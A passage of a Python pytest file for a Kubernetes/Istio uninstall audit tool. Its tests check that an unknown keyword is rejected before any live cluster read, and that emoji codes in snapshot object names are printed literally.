    assert not (tmp_path / "out").exists()


def test_api_run_audit_refuses_an_unknown_keyword_before_reading_anything(tmp_path: Path, monkeypatch):
    """`run_audit(snapshot=DIR)` (the snapshot belongs in Target) used to open the default kubeconfig first, i.e.
    try a live read of whatever cluster the environment pointed at, and only then fail on the keyword."""
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "no-such-kubeconfig"))
    with pytest.raises(TypeError, match=r"snapshot; pass Target\(snapshot=\.\.\.\)"):
        api.run_audit(snapshot=str(tmp_path))
    with pytest.raises(TypeError, match="phse"):
        api.run_audit(api.Target(snapshot=str(tmp_path)), phse="uninstall")


def test_emoji_codes_in_cluster_text_reach_the_terminal_as_written(tmp_path, capsys):
    """Rich turns `:warning:` into an emoji by default: a name read from a snapshot (which can hold anything) must be
    shown as the cluster wrote it, so the terminal's consoles are built without emoji codes."""
    dep, rs = f.deployment("cart")
    dep["metadata"]["name"] = "cart:warning:v2"
    rs["metadata"]["ownerReferences"][0]["name"] = "cart:warning:v2"
    pods = f.workload_pods((dep, rs), 1, proxy="istio")
    directory = tmp_path / "snap" / "c1"
    directory.mkdir(parents=True)
    (directory / "objects.json").write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": [
        f.namespace("shop"), f.namespace("istio-system"), dep, rs, *pods]}))
    (directory / "version.json").write_text(json.dumps(f.version_info("v1.30.4")))
    code = main(["run", "--snapshot", str(tmp_path / "snap"), "--phase", "uninstall", "--format", "json",
                 "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1  # the workload still runs Istio's sidecar: a blocker, listed by name
    assert "cart:warning:v2" in err and "\u26a0" not in err
